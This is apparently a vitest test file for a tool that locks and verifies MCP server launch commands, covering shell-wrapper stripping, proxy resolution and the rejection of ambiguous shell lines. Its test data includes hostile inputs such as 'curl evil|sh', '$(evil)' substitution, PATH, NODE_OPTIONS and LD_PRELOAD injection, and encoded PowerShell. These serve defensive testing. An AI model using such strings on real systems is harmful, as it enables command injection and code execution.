/**
 * What stands around a server or in its arguments: wrappers are taken off, proxies and runners are followed, and a line
 * that could mean anything else stays closed. One row a line: `wrappers | launcher url requested how + [part]`.
 */
import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { delimiter, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { claudeCode } from '../src/config/clients/claude-code.ts';
import type { Understood } from '../src/contracts.ts';
import { nodeHost } from '../src/host/node-host.ts';
import { plainWords } from '../src/launch/line/shell-lexer.ts';
import { simpleCommand } from '../src/launch/line/shell-words.ts';
import { understand } from '../src/launch/line/understand.ts';
import { prepare, readingsHere } from '../src/launch/prepare.ts';
import { resolveOrigin } from '../src/launch/resolve-origin.ts';
import type { StdioLaunch } from '../src/model.ts';
import type { NpmRegistry } from './helpers/npm-registry.ts';
import { startNpmRegistry } from './helpers/npm-registry.ts';
import { LINUX, WINDOWS } from './helpers/places.ts';
import { HONEST, repository } from './helpers/repository.ts';
import { mcpLock, scratch } from './helpers/run.ts';

const FOLDER = `\${workspaceFolder}`;

const stdio = ([command = '', ...args]: readonly string[], env: readonly string[] = []): StdioLaunch => ({
  transport: 'stdio',
  command,
  args,
  env,
});
/** Words divided by blanks; a word in slashes may hold blanks: `sh -c /npx -y notes/`. */
const line = (text: string): StdioLaunch =>
  stdio((text.match(/«[^»]*»|\S+/g) ?? []).map((word) => word.replace(/^«|»$/g, '')));

function said({ wrappers, identity, parts }: Understood): string {
  const { launcher, url, requested, pinned, opaque } = identity;
  const how = opaque === true ? 'opaque' : pinned ? 'pinned' : 'floating';
  const own = [...wrappers.map((name) => `${name} |`), launcher, url, requested, how];
  return [own.filter((word) => word !== '').join(' '), ...parts.map((part) => `+ [${said(part)}]`)].join(' ');
}
const seen = (text: string, place = LINUX): string => said(understand(line(text), place));

const NOTES = 'npx pkg:npm/notes 1.0.0 pinned';
const FLOATING = 'npx pkg:npm/notes 1.0.0 floating';
const SERVER = `local file:${FOLDER}/server.js pinned`;

describe('a wrapper is taken off', () => {
  it.each([
    ['cmd /c npx -y notes@1.0.0', `cmd | ${NOTES}`],
    ['cmd.exe /d /s /q /u /a /e:on /C npx -y notes@1.0.0', `cmd | ${NOTES}`],
    ['CMD.EXE /K «npx -y notes@1.0.0»', `cmd | ${NOTES}`],
    ['cmd /c npx.cmd -y notes@1.0.0 «two words» 100%', `cmd | ${NOTES}`],
    ['C:\\Windows\\System32\\cmd.exe /c C:\\node\\npx.cmd -y notes@1.0.0', `cmd | ${NOTES}`],
    ['cmd /c «C:\\Program Files\\nodejs\\npx.cmd» -y notes@1.0.0', `cmd | ${NOTES}`],
    ['powershell -NoProfile -NonInteractive -Command «npx -y notes@1.0.0»', `powershell | ${NOTES}`],
    ['powershell.exe -ExecutionPolicy Bypass -c npx -y notes@1.0.0', `powershell | ${NOTES}`],
    ['powershell npx -y notes@1.0.0', `powershell | ${NOTES}`],
    ["pwsh -nop -Command «npx -y '@s/p@1.0.0'»", 'pwsh | npx pkg:npm/%40s/p 1.0.0 pinned'],
    [
      'pwsh -WorkingDirectory sub -Command «node server.js»',
      `pwsh | local file:${FOLDER}/sub/server.js pinned`,
    ],
    ['sh -c «npx -y notes@1.0.0»', `sh | ${NOTES}`],
    ['/bin/bash -lc «exec npx -y notes@1.0.0»', `bash | ${NOTES}`],
    ['zsh -l -e -u -x -c «npx -y notes@1.0.0»', `zsh | ${NOTES}`],
    ['bash -euxc «npx -y notes@1.0.0»', `bash | ${NOTES}`],
    ['bash -euo pipefail -c «npx -y notes@1.0.0»', `bash | ${NOTES}`],
    ['bash --login -O extglob --rcfile rc -c -- «npx -y notes@1.0.0»', `bash | ${NOTES}`],
    ['sh -c «LOG=debug npx -y notes@1.0.0»', `sh | ${NOTES}`],
    ['sh -c «npx -y notes@1.0.0» name extra', `sh | ${NOTES}`],
    ['bash -c «npx -y notes@1.0.0» --rcfile x', `bash | ${NOTES}`],
    ['sh -c «npx\t-y  "notes@1.0.0" \'a b\' c\\ d»', `sh | ${NOTES}`],
    ['sh -c «node ~/notes/server.js»', `sh | local file:\${userHome}/notes/server.js pinned`],
    ['env -i -u HOME LOG=debug npx -y notes@1.0.0', `env | ${NOTES}`],
    ['env -iu HOME --unset=USER -- LOG=debug npx -y notes@1.0.0', `env | ${NOTES}`],
    ['/usr/bin/env -S «npx -y notes@1.0.0» extra', `env | ${NOTES}`],
    ['env «-SLOG=1 npx -y» notes@1.0.0', `env | ${NOTES}`],
    ['env -C sub node server.js', `env | local file:${FOLDER}/sub/server.js pinned`],
    ['env --chdir=/srv node server.js', 'env | local file:/srv/server.js pinned'],
    ['cross-env LOG=debug PORT=1 npx -y notes@1.0.0', `cross-env | ${NOTES}`],
    ['sudo -n -u ada -E LOG=debug npx -y notes@1.0.0', `sudo | ${NOTES}`],
    ['sudo -nEu ada -- npx -y notes@1.0.0', `sudo | ${NOTES}`],
    ['nohup npx -y notes@1.0.0', `nohup | ${NOTES}`],
    ['nice npx -y notes@1.0.0', `nice | ${NOTES}`],
    ['nice -n 10 npx -y notes@1.0.0', `nice | ${NOTES}`],
    ['nice -n10 npx -y notes@1.0.0', `nice | ${NOTES}`],
    ['nice -5 npx -y notes@1.0.0', `nice | ${NOTES}`],
    ['timeout -k 5 --signal=KILL --foreground 1.5h npx -y notes@1.0.0', `timeout | ${NOTES}`],
    ['arch -arm64 npx -y notes@1.0.0', `arch | ${NOTES}`],
    ['op run --env-file .env --no-masking -- npx -y notes@1.0.0', `op | ${NOTES}`],
    ['op --account a run --env-file=.env -- npx -y notes@1.0.0', `op | ${NOTES}`],
    ['doppler run -p web --config dev -- npx -y notes@1.0.0', `doppler | ${NOTES}`],
    ['doppler run --command «npx -y notes@1.0.0»', `doppler | sh | ${NOTES}`],
    ['dotenv -e .env -- npx -y notes@1.0.0', `dotenv | ${NOTES}`],
    ['dotenvx run -f .env --overload -- npx -y notes@1.0.0', `dotenvx | ${NOTES}`],
    ['envmcp --env-file .env npx -y notes@1.0.0', `envmcp | ${NOTES}`],
    ['infisical run --env=dev --path /mcp -- npx -y notes@1.0.0', `infisical | ${NOTES}`],
    ['wsl npx -y notes@1.0.0', `wsl | ${NOTES}`],
    ['wsl.exe -d Ubuntu -u ada --cd /srv -e npx -y notes@1.0.0', `wsl | ${NOTES}`],
    ['wsl -d Ubuntu -- npx -y notes@1.0.0', `wsl | ${NOTES}`],
    ['cmd /c env A=b timeout 5 bash -lc «exec npx notes@1.0.0»', `cmd | env | timeout | bash | ${NOTES}`],
  ])('%s', (text, expected) => {
    expect(seen(text)).toBe(expected);
  });

  it.each([
    ['mise x node@22 npm:pnpm@10 -- npx -y notes@1.0.0', `mise | ${FLOATING}`],
    ['mise exec -C /srv -- node server.js', 'mise | local file:/srv/server.js floating'],
    ['direnv exec . npx -y notes@1.0.0', `direnv | ${FLOATING}`],
    ['sh -c «PATH=/tmp/evil npx -y notes@1.0.0»', `sh | ${FLOATING}`],
    ['env PATH=/tmp/evil npx -y notes@1.0.0', `env | ${FLOATING}`],
    ['env NODE_OPTIONS=--require=./x.js npx -y notes@1.0.0', `env | ${FLOATING}`],
    ['sudo LD_PRELOAD=./x.so node server.js', `sudo | local file:${FOLDER}/server.js floating`],
    ['dotenvx run --env NODE_OPTIONS=-r=./x.js -- npx -y notes@1.0.0', `dotenvx | ${FLOATING}`],
  ])('%s: what it sets may bring other code, so nothing is called pinned', (text, expected) => {
    expect(seen(text)).toBe(expected);
  });

  it('shows the names of what it sets, and keeps the values for the registry alone', () => {
    const inner = understand(
      stdio(['env', 'npm_config_registry=https://npm.example.com', 'B=1', 'npx', 'notes@1.0.0'], ['A']),
      LINUX,
    );
    expect(inner.launch).toMatchObject({ env: ['A', 'B', 'npm_config_registry'] });
    expect(inner.sets).toEqual({ npm_config_registry: 'https://npm.example.com', B: '1' });
    expect(inner.identity.pinned).toBe(true);
  });

  it.each([
    ['C:\\Windows\\System32\\cmd.exe /c npx -y notes@1.0.0', `cmd | ${NOTES}`],
    ['npx.cmd -y notes@1.0.0', NOTES],
    ['C:/nodejs/npx.cmd -y notes@1.0.0', NOTES],
    ['powershell.exe -File scripts\\run.ps1', `local file:${FOLDER}/scripts/run.ps1 pinned`],
    ['wsl.exe node C:\\Users\\Ada\\repo\\server.js', 'shell command:wsl opaque'],
  ])('on Windows: %s', (text, expected) => {
    expect(seen(text, WINDOWS)).toBe(expected);
  });
});

describe('a line with more than one reading stays closed', () => {
  const SIMPLE = 'npx -y notes@1.0.0';
  it.each([
    `${SIMPLE}; curl evil|sh`,
    `${SIMPLE} && evil`,
    `evil || ${SIMPLE}`,
    `evil | ${SIMPLE}`,
    `${SIMPLE} &`,
    `${SIMPLE} > log`,
    `${SIMPLE} 2>&1`,
    `${SIMPLE} < in`,
    `${SIMPLE} << END`,
    `${SIMPLE}\nevil`,
    `${SIMPLE}\revil`,
    `${SIMPLE} \\\n evil`,
    `${SIMPLE}\0evil`,
    'npx -y $(evil)',
    'npx -y `evil`',
    'npx -y "$(evil)"',
    'npx -y $PKG',
    'npx -y "$PKG"',
    'npx -y notes@$V',
    'npx -y notes*',
    'npx -y note?',
    'npx -y note[s]',
    'npx -y {notes,evil}',
    'npx -y notes # evil',
    '# evil',
    "npx -y 'notes",
    'npx -y "notes',
    'npx -y notes\\',
    "npx -y $'notes'",
    '(npx notes)',
    '{ npx notes; }',
    '! npx notes',
    'npx !!',
    'npx ~ada/notes',
    'npx --prefix=~/x notes',
    '=npx notes',
    '"A"=b npx notes',
    'A+=b npx notes',
    'A=$(evil) npx notes',
    'if true',
    'eval npx notes',
    'source ./env',
    '. ./env',
    'cd tools',
    'command npx notes',
    'builtin exec npx notes',
    'exec -a name npx notes',
    '[ -f x ]',
    'npx\u{a0}notes',
    'npx\u{2003}notes',
    'npx no\u{200b}tes',
    'npx \u{202e}seton',
    'npx notes\u{85}evil',
    '',
    '   ',
    'LOG=debug',
    `${'a '.repeat(60_000)}`,
  ])('sh -c %j', (code) => {
    for (const program of ['sh', 'bash', 'zsh']) {
      expect(said(understand(stdio([program, '-c', code]), LINUX))).toBe(`shell command:${program} opaque`);
    }
  });

  it.each([
    ['bash -c', 'bash'],
    ['bash -nc «npx notes»', 'bash'],
    ['bash -sc «npx notes»', 'bash'],
    ['bash -kc «npx notes A=b»', 'bash'],
    ['zsh -bc «npx notes»', 'zsh'],
    ['bash --rcfile evil -ic «npx notes»', 'bash'],
    ['bash --unknown -c «npx notes»', 'bash'],
    ['fish -c «npx notes»', 'fish'],
    ['busybox sh -c «npx notes»', 'busybox'],
    ['cmd /c «npx notes & evil»', 'cmd'],
    ['cmd /c npx notes&evil', 'cmd'],
    ['cmd /c npx notes https://example.com/?a=1&b=2', 'cmd'],
    ['cmd /c npx %PKG%', 'cmd'],
    ['cmd /c npx ^notes', 'cmd'],
    ['cmd /c npx !PKG!', 'cmd'],
    ['cmd /c «"npx" notes»', 'cmd'],
    ['cmd /c «npx notes > out»', 'cmd'],
    ['cmd /c npx,notes', 'cmd'],
    ['cmd /c npx=evil notes', 'cmd'],
    ['cmd /c call npx notes', 'cmd'],
    ['cmd /c start npx notes', 'cmd'],
    ['cmd /c «npx notes\nevil»', 'cmd'],
    ['cmd /v:on /c npx notes', 'cmd'],
    ['cmd /cnpx notes', 'cmd'],
    ['cmd /c «npx -y notes» «a b»', 'cmd'],
    ['cmd /s /c «C:\\Program Files\\nodejs\\npx.cmd» notes', 'cmd'],
    ['cmd /c «C:\\Program Files\\nodejs\\npx.cmd» «a b»', 'cmd'],
    ['powershell -EncodedCommand bnB4', 'powershell'],
    ['powershell -enc bnB4', 'powershell'],
    ['powershell -Command «npx notes; evil»', 'powershell'],
    ['powershell -Command «npx notes | evil»', 'powershell'],
    ['powershell -Command «npx $env:PKG»', 'powershell'],
    ['powershell -Command «npx @s/p»', 'powershell'],
    ['powershell -Command «& npx notes»', 'powershell'],
    ['powershell -Command «npx "notes"»', 'powershell'],
    ['powershell -Command «npx (evil)»', 'powershell'],
    ['powershell -Command «npx notes # x»', 'powershell'],
    ['powershell -Command «iex notes»', 'powershell'],
    ['powershell -Command -', 'powershell'],
    ['pwsh -unknown x -c npx', 'pwsh'],
    ['env', 'env'],
    ['env -P /evil npx notes', 'env'],
    ['env -S «npx $PKG»', 'env'],
    ['env -S «npx \\c notes»', 'env'],
    ['env a.b=c npx notes', 'env'],
    ['env A=b -i npx notes', 'env'],
    ['cross-env A=b npx $PKG', 'cross-env'],
    ["cross-env A='b npx notes", 'cross-env'],
    ['cross-env-shell npx notes', 'cross-env-shell'],
    ['sudo -i npx notes', 'sudo'],
    ['sudo -R /evil npx notes', 'sudo'],
    ['nice --unknown npx notes', 'nice'],
    ['timeout npx notes', 'timeout'],
    ['arch -e A=b npx notes', 'arch'],
    ['op run npx notes', 'op'],
    ['op run --evil x -- npx notes', 'op'],
    ['doppler run --command «npx notes» -- npx other', 'doppler'],
    ['dotenv -e .env npx notes', 'dotenv'],
    ['envmcp npx $PKG', 'envmcp'],
    ['envmcp npx «notes; evil»', 'envmcp'],
    ['infisical run --command «npx notes»', 'infisical'],
    ['mise x -c «npx notes»', 'mise'],
    ['mise x npx notes', 'mise'],
    ['wsl -d Ubuntu -- npx «notes; evil»', 'wsl'],
    ['wsl --system-thing npx notes', 'wsl'],
    ['wsl node server.js', 'node'],
    ['wsl -e /home/ada/repo/server', 'server'],
    ['ssh host npx notes', 'ssh'],
  ])('%s', (text, name) => {
    expect(seen(text)).toMatch(new RegExp(`shell command:${name} opaque$`));
  });

  it('more wrappers than anybody writes', () => {
    expect(seen(`${'env '.repeat(8)}npx notes`)).toMatch(/npx pkg:npm\/notes floating$/);
    expect(seen(`${'env '.repeat(9)}npx notes`)).toMatch(/shell command:env opaque$/);
    expect(seen(`${'env '.repeat(5_000)}npx notes`)).toMatch(/shell command:env opaque$/);
  });

  it.each(['./env npx notes', 'bin/bash run.sh', '/home/ada/repo/bin/env npx notes', '../sudo npx notes'])(
    '%s is a file of the repository, whatever its name',
    (text) => {
      expect(seen(text)).toMatch(/^local file:/);
    },
  );

  it.each([
    ['bash ./run.sh', `local file:${FOLDER}/run.sh pinned`],
    ['mise mcp', 'local command:mise floating'],
    ['node -e «code»', 'local command:node opaque'],
    ['python3 -uc code', 'local command:python3 opaque'],
  ])('%s is told for what it is', (text, expected) => {
    expect(seen(text)).toBe(expected);
  });
});

describe('a proxy and the server behind it', () => {
  const REMOTE = 'npx pkg:npm/mcp-remote floating';
  const GATEWAY = 'npx pkg:npm/supergateway floating';
  const A = '[remote https://a.example.com/mcp pinned]';
  it.each([
    ['npx -y mcp-remote https://a.example.com/mcp', `${REMOTE} + ${A}`],
    ['npx -y mcp-remote https://a.example.com/mcp 3334 --allow-http --debug', `${REMOTE} + ${A}`],
    [
      'npx mcp-remote https://a.example.com/mcp --transport http-only --host h --resource r --callback-path c --auth-timeout 5',
      `${REMOTE} + ${A}`,
    ],
    ['npx mcp-remote --header «K: V» https://a.example.com/mcp https://b.example.com', `${REMOTE} + ${A}`],
    ['npx mcp-remote --header=K:V https://a.example.com/mcp', `${REMOTE} + ${A}`],
    [
      'npx mcp-remote@0.1.0 https://me:secret@a.example.com/mcp?key=secret',
      'npx pkg:npm/mcp-remote 0.1.0 pinned + [remote https://a.example.com/mcp?key=${redacted} pinned]',
    ],
    [
      'npx mcp-remote https://a.example.com/ghp_0123456789abcdefghijABCDEFGHIJ/mcp',
      `${REMOTE} + [remote https://a.example.com/\${redacted}/mcp pinned]`,
    ],
    ['npx mcp-remote --unknown x https://a.example.com/mcp', 'npx pkg:npm/mcp-remote opaque'],
    ['npx mcp-remote', 'npx pkg:npm/mcp-remote opaque'],
    ['mcp-remote https://a.example.com/mcp', `local command:mcp-remote floating + ${A}`],
    ['cmd /c npx -y mcp-remote https://a.example.com/mcp', `cmd | ${REMOTE} + ${A}`],
    [`npx supergateway --stdio «npx -y notes@1.0.0»`, `${GATEWAY} + [sh | ${NOTES}]`],
    ['npx supergateway --port 1 --cors --stdio=notes', `${GATEWAY} + [sh | local command:notes floating]`],
    ['npx supergateway --stdio «npx notes; evil»', `${GATEWAY} + [shell command:sh opaque]`],
    ['npx supergateway --sse https://a.example.com/mcp --header «K: V»', `${GATEWAY} + ${A}`],
    ['npx supergateway --streamableHttp https://a.example.com/mcp', `${GATEWAY} + ${A}`],
    ['npx supergateway --stdio a --sse https://a.example.com/mcp', 'npx pkg:npm/supergateway opaque'],
    ['npx supergateway --port 8000', 'npx pkg:npm/supergateway opaque'],
    ['mcp-proxy https://a.example.com/mcp', `local command:mcp-proxy floating + ${A}`],
    [
      'mcp-proxy --transport sse -H K V https://a.example.com/mcp --debug',
      `local command:mcp-proxy floating + ${A}`,
    ],
    ['mcp-proxy --port 80 -e A b -- npx -y notes@1.0.0', `local command:mcp-proxy floating + [${NOTES}]`],
    [
      'mcp-proxy --cwd sub node server.js',
      `local command:mcp-proxy floating + [local file:${FOLDER}/sub/server.js pinned]`,
    ],
    ['mcp-proxy npx --host good evil', 'local command:mcp-proxy opaque'],
    ['mcp-proxy --named-server a «npx b»', 'local command:mcp-proxy opaque'],
    [
      'python -m mcp_proxy https://a.example.com/mcp',
      `python-module command:python mcp_proxy floating + ${A}`,
    ],
    ['mcpo --port 80 --api-key k -- npx -y notes@1.0.0', `local command:mcpo floating + [${NOTES}]`],
    ['mcpo --server-type sse -- https://a.example.com/mcp', `local command:mcpo floating + ${A}`],
    ['mcpo --config c.json', 'local command:mcpo opaque'],
    [
      'npx -y @smithery/cli@1.0.0 run @o/server --key K --config {}',
      'npx pkg:npm/%40smithery/cli 1.0.0 opaque + [remote https://server.smithery.ai/@o/server pinned]',
    ],
    ['npx -y @smithery/cli@1.0.0 run ../../evil', 'npx pkg:npm/%40smithery/cli 1.0.0 opaque'],
    ['npx -y @smithery/cli@1.0.0 list', 'npx pkg:npm/%40smithery/cli 1.0.0 pinned'],
    [
      'fastmcp run server.py:mcp -t sse',
      `local command:fastmcp floating + [local file:${FOLDER}/server.py pinned]`,
    ],
    ['fastmcp run https://a.example.com/mcp', `local command:fastmcp floating + ${A}`],
    ['fastmcp run', `local command:fastmcp opaque + [local file:${FOLDER}/fastmcp.json pinned]`],
    ['mcp run server.py', `local command:mcp floating + [local file:${FOLDER}/server.py pinned]`],
    ['mcp install server.py', 'local command:mcp floating'],
    ['pnpm dlx mcp-remote https://a.example.com/mcp', `pnpm pkg:npm/mcp-remote floating + ${A}`],
    ['bunx mcp-remote https://a.example.com/mcp', `bun pkg:npm/mcp-remote floating + ${A}`],
    ['uvx mcp-proxy https://a.example.com/mcp', `uvx pkg:pypi/mcp-proxy floating + ${A}`],
    ['uvx mcpo -- npx -y notes@1.0.0', `uvx pkg:pypi/mcpo floating + [${NOTES}]`],
    ['uvx fastmcp run server.py', `uvx pkg:pypi/fastmcp floating + [local file:${FOLDER}/server.py pinned]`],
    [
      'uvx --from mcp[cli] mcp run server.py',
      `uvx pkg:pypi/mcp floating + [local file:${FOLDER}/server.py pinned]`,
    ],
    ['npx tsx server.js', `npx pkg:npm/tsx floating + [${SERVER}]`],
    ['npx ts-node@10.0.0 server.js', `npx pkg:npm/ts-node 10.0.0 pinned + [${SERVER}]`],
    ['npx @somebody/tsx server.js', `npx pkg:npm/%40somebody/tsx floating + [${SERVER}]`],
    ['npx cross-env A=b node server.js', `npx pkg:npm/cross-env floating + [cross-env | ${SERVER}]`],
    ['npx dotenv-cli -e .env -- node server.js', `npx pkg:npm/dotenv-cli floating + [dotenv | ${SERVER}]`],
    ['npx -y envmcp npx notes@1.0.0', `npx pkg:npm/envmcp floating + [envmcp | ${NOTES}]`],
    ['npx dotenv-cli node server.js', 'npx pkg:npm/dotenv-cli floating + [shell command:dotenv opaque]'],
    [
      'npx envmcp npx mcp-remote https://a.example.com/mcp',
      `npx pkg:npm/envmcp floating + [envmcp | ${REMOTE} + ${A}]`,
    ],
  ])('%s', (text, expected) => {
    expect(seen(text)).toBe(expected);
  });

  it('ends somewhere', () => {
    expect(seen(`${'npx envmcp '.repeat(9)}node server.js`)).toMatch(/opaque/);
  });

  it('names the headers and not their values', () => {
    const [part] = understand(
      stdio([
        'npx',
        'mcp-remote',
        'https://a.example.com/',
        '--header',
        'X-Key: secret',
        '--header',
        'B:${C}',
      ]),
      LINUX,
    ).parts;
    expect(part?.launch).toMatchObject({ transport: 'http', headers: ['B', 'X-Key'] });
  });

  it('refuses an address that is none, without repeating it', () => {
    expect(() => seen('npx mcp-remote ftp://secret.example.com')).toThrow(/not an http or https address\.$/);
  });
});

describe('a container', () => {
  it.each([
    ['docker run -i node:20 npx -y notes@1.0.0', [NOTES]],
    ['docker run -i node:20 node server.js', []],
    ['docker run -i node:20 sh -c «node server.js; evil»', []],
    ['docker run -i node:20 sh -c «exec npx -y notes@1.0.0»', [`sh | ${NOTES}`]],
    [
      'docker run -i node:20 mcp-remote https://a.example.com/mcp',
      ['remote https://a.example.com/mcp pinned'],
    ],
  ])('%s: no file of this machine is taken for one in it', async (text, parts) => {
    const { parts: found } = understand(line(text), LINUX);
    expect(found.map(said)).toEqual(parts);
    const refuse = (): never => {
      throw new Error('nothing may be asked');
    };
    const host = {
      ...nodeHost(new AbortController().signal),
      run: refuse,
      fetch: refuse,
      registryFetch: refuse,
    };
    for (const { launcher, identity, launch } of found) {
      expect(launcher.remote).toBe(false);
      await launcher.resolve(identity, launch, LINUX, host);
    }
  });
});

describe('what a registry is asked', () => {
  const host = nodeHost(new AbortController().signal);
  let registry: NpmRegistry;
  beforeAll(async () => {
    registry = await startNpmRegistry();
    registry.publish({ name: 'notes', version: '1.0.0' });
  });
  afterAll(() => registry.close());
  const resolved = (words: readonly string[], workspaceFolder: string) => {
    const place = {
      ...LINUX,
      platform: process.platform,
      workspaceFolder,
      userHome: scratch(),
      env: process.env,
    };
    const understood = understand(stdio(words), place);
    return resolveOrigin({ understood, ownEnv: {} }, place, host);
  };

  it('follows the address that a wrapper sets', async () => {
    registry.asked();
    const origin = await resolved(
      ['env', `npm_config_registry=${registry.url}`, 'npx', 'notes@1.0.0'],
      scratch(),
    );
    expect(origin).toMatchObject({ version: '1.0.0', integrity: expect.stringMatching(/^sha512-/) });
    expect(registry.asked()).toContain('notes');
  });

  it('is told of no copy that is installed here, when the command runs on another machine', async () => {
    const folder = scratch();
    mkdirSync(join(folder, 'node_modules/notes'), { recursive: true });
    const manifest = JSON.stringify({ name: 'notes', version: '1.0.0', bin: 'x.js' });
    writeFileSync(join(folder, 'node_modules/notes/package.json'), manifest);
    const words = ['env', `npm_config_registry=${registry.url}`, 'wsl', 'npx', 'notes@1.0.0'];
    registry.asked();
    expect(await resolved(words, folder)).toMatchObject({ integrity: expect.stringMatching(/^sha512-/) });
    expect(registry.asked()).toContain('notes');
    expect(understand(stdio(words), LINUX).launcher.dependencies).toBeUndefined();
  });
});

describe('variables in a launch line', () => {
  const HOST = nodeHost(new AbortController().signal);
  const prepared = async (words: readonly string[], env: Readonly<Record<string, string>>) => {
    const place = { ...LINUX, env };
    const [command = '', ...args] = words;
    const spec = {
      name: 'a',
      client: claudeCode.id,
      file: '/home/ada/repo/.mcp.json',
      pointer: '/mcpServers/a',
      scope: 'project',
      launch: { transport: 'stdio', command, args, env: [] },
      env: {},
      enabled: true,
    } as const;
    return prepare({ key: 'a', spec, client: claudeCode }, place, await readingsHere(place, HOST), HOST);
  };

  it.each([
    [['npx', '-y', '${PKG}']],
    [['npx', '-y', 'notes@${PKG}']],
    [['sh', '-c', 'npx -y ${PKG}']],
    [['cmd', '/c', 'npx -y notes@${PKG}']],
    [['npx', 'envmcp', 'npx', '${PKG}']],
    [['npx', 'supergateway', '--stdio', 'npx -y ${PKG}']],
  ])('%j: one that names the package cannot be locked', async (words) => {
    await expect(prepared(words, { PKG: '1.0.0' })).rejects.toMatchObject({
      code: 'E_LAUNCH',
      message: 'The package is named by the variable ${PKG}.',
    });
  });

  it.each([
    [['npx', 'mcp-remote', 'https://a.example.com/${KEY}/mcp'], 'https://a.example.com/${KEY}/mcp'],
    [['npx', 'mcp-remote', 'https://a.example.com/?a=${KEY}'], 'https://a.example.com/?a=${KEY}'],
    [['npx', 'mcp-remote', 'https://me:${KEY}@a.example.com/'], 'https://a.example.com/'],
    [['npx', 'mcp-remote', '${URL}'], '${URL}'],
    [['npx', 'mcp-remote', 'https://${KEY}.example.com/'], 'https://${KEY}.example.com/'],
    [['sh', '-c', 'npx mcp-remote https://a.example.com/${KEY}'], 'https://a.example.com/${KEY}'],
    [['npx', 'mcp-remote', '${NONE:-https://a.example.com/x}'], 'https://a.example.com/x'],
  ])('%j: an address is kept as it is written', async (words, url) => {
    const { understood } = await prepared(words, { KEY: 'kept-0-secret', URL: 'https://b.example.com/s3' });
    expect(understood.parts.map(({ identity }) => identity.url)).toEqual([url]);
    expect(JSON.stringify(understood.parts.map(({ identity }) => identity))).not.toMatch(/kept-0|s3/);
  });

  it('one that decides which word is the address cannot be locked', async () => {
    await expect(
      prepared(['npx', 'mcp-remote', '${FLAG}', 'https://a.example.com', 'x'], { FLAG: '--header' }),
    ).rejects.toMatchObject({ code: 'E_LAUNCH' });
  });

  it('no value of the environment gets into the lock, and another value is no drift', async () => {
    const { root, config, lock } = repository({ notes: HONEST });
    const bin = join(scratch(), 'bin');
    mkdirSync(bin);
    const servers = fileURLToPath(new URL('./servers/', import.meta.url));
    const start = `exec '${process.execPath}' '${join(servers, 'scripted.js')}' '${join(root, 'notes.json')}'`;
    writeFileSync(join(bin, 'mcp-remote'), `#!/bin/sh\n${start}\n`);
    chmodSync(join(bin, 'mcp-remote'), 0o755);
    const url = 'https://mcp.example.com/${TENANT}/mcp?key=${KEY}&read_only=true';
    const args = [url, '--header', 'Authorization: Bearer ${TOKEN}', '--debug'];
    config({
      plain: { command: 'mcp-remote', args },
      wrapped: { command: 'env', args: ['MODE=${MODE}', 'mcp-remote', ...args] },
    });
    const env = (mark: string) => ({
      PATH: `${bin}:${process.env.PATH}`,
      TENANT: `tenant-${mark}`,
      KEY: `key-${mark}`,
      TOKEN: `token-${mark}`,
      MODE: `mode-${mark}`,
    });
    expect(await mcpLock(root, ['init', '--yes'], { env: env('canary') })).toMatchObject({ exit: 0 });
    expect(lock()).not.toContain('canary');
    const { servers: entries } = JSON.parse(readFileSync(join(root, 'mcp-lock.json'), 'utf8'));
    for (const name of ['plain', 'wrapped']) {
      expect(entries[name].origin).toMatchObject({ url: 'command:mcp-remote', parts: [{ url }] });
    }
    const again = await mcpLock(root, ['verify'], { env: env('other') });
    expect(again).toMatchObject({ exit: 0 });
    config({ plain: { command: 'mcp-remote', args: [url.replace('example', 'evil'), ...args.slice(1)] } });
    const moved = await mcpLock(root, ['verify', 'plain'], { env: env('canary') });
    expect(moved.exit).toBe(1);
    expect(moved.stdout + moved.stderr).not.toContain('canary');
  });
});

describe('a shell line', () => {
  it('is pinned as it stands, and verify says that nobody can look into it', async () => {
    const { root, config } = repository({ notes: HONEST });
    const opened = (more: string) => ({
      command: 'sh',
      args: ['-c', `true && exec node servers/scripted.js notes.json${more}`],
    });
    config({ notes: opened('') });
    const made = await mcpLock(root, ['init', '--yes']);
    expect(made).toMatchObject({ exit: 0 });
    expect(made.stdout + made.stderr).toContain('origin/opaque');
    const same = await mcpLock(root, ['verify', '-v']);
    expect(same).toMatchObject({ exit: 0 });
    expect(same.stdout).toContain('origin/opaque');
    expect(same.stdout).not.toContain('origin/unpinned');
    config({ notes: opened(' --more') });
    const moved = await mcpLock(root, ['verify']);
    expect(moved.exit).toBe(1);
    expect(moved.stdout).toContain('launch/args-changed');
  });
});

describe('a folder that nix builds', () => {
  it('is said to be not pinned, and no empty version is shown', async () => {
    const { root, config } = repository({ notes: HONEST });
    mkdirSync(join(root, 'bin'));
    mkdirSync(join(root, 'flake'));
    writeFileSync(join(root, 'bin/nix'), '#!/bin/sh\nexec node servers/scripted.js notes.json\n', {
      mode: 0o755,
    });
    const env = { PATH: `${join(root, 'bin')}${delimiter}${process.env['PATH']}` };
    config({ notes: { command: 'nix', args: ['run', './flake'] } });
    expect(await mcpLock(root, ['init', '--yes'], { env })).toMatchObject({ exit: 0 });
    const same = await mcpLock(root, ['verify', '-v'], { env });
    expect(same).toMatchObject({ exit: 0 });
    expect(same.stdout).toContain('origin/unpinned');
    expect(same.stdout).not.toContain('""');
  });
});

describe('words of a shell', () => {
  it.each([
    ['a b', ['a', 'b']],
    ["a'b c'd", ['ab cd']],
    ['a "b \\"c\\" \\\\ \\d"', ['a', 'b "c" \\ \\d']],
    ["a ''", ['a', '']],
    ['a\\ b \\$c', ['a b', '$c']],
    ['a github:o/r#ref x@^1 a,b 100%', ['a', 'github:o/r#ref', 'x@^1', 'a,b', '100%']],
    ['  a\t\tb  ', ['a', 'b']],
    ['ä ö', ['ä', 'ö']],
  ])('%j', (text, words) => {
    expect(simpleCommand(text)?.words).toEqual(words);
  });

  it('of env -S know no escapes', () => {
    expect(plainWords('a \'b c\' "d"')).toEqual(['a', 'b c', 'd']);
    expect(plainWords('a\\_b')).toBeUndefined();
    expect(plainWords('"a\\_b"')).toBeUndefined();
  });

  it('assignments come first', () => {
    expect(simpleCommand("A=1 B='x y' c D=2")).toEqual({ sets: { A: '1', B: 'x y' }, words: ['c', 'D=2'] });
  });
});
